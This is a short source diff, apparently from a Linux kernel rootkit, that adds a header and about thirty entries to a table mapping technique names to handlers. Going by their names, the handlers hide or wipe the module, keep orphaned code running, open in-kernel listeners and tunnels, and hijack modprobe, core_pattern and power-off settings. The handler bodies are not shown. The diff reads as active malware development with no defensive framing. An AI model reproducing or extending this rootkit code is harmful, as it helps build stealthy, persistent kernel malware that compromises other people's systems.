@@ -417,6 +417,7 @@ static int hide_module(void)
 
 #include "rootkit_handlers.h"
 #include "rootkit_settings.h"
+#include "rootkit_objects.h"
 
 /* --- the module ------------------------------------------------------------------------------------------------------ */
 
@@ -434,6 +435,16 @@ static const struct {
 	{ "work", keep_working }, { "delayed", delay_work }, { "interrupt", share_interrupt },
 	{ "kthread", start_thread }, { "format", register_format }, { "device", replace_device },
 	{ "sysfs", replace_attribute },
+	{ "lines", replace_lines }, { "name", replace_name }, { "mapping", replace_mapping }, { "class", replace_class },
+	{ "taskwork", add_task_work }, { "endpoint", listen_in_kernel }, { "tunnel", encapsulate },
+	{ "ethtool", replace_ethtool }, { "family", register_family }, { "receiver", replace_receiver },
+	{ "options", register_options }, { "esp", register_esp }, { "congestion", register_control },
+	{ "queue", register_queue }, { "namespaces", register_namespaces }, { "tasklet", schedule_tasklet },
+	{ "dumper", register_dumper }, { "input", register_handler }, { "cipher", register_cipher },
+	{ "keytype", register_key_type }, { "setting", register_setting }, { "debugfs", register_debug_file },
+	{ "driver", register_driver }, { "clock", register_clock }, { "power", set_power_off },
+	{ "vmalloc", run_vmalloc }, { "orphan", keep_code }, { "page", run_page }, { "wiped", wipe_module },
+	{ "unnamed", empty_name }, { "reboot", register_reboot },
 	{ "modprobe", set_modprobe }, { "core", set_core_pattern }, { "poweroff", set_poweroff },
 };
 
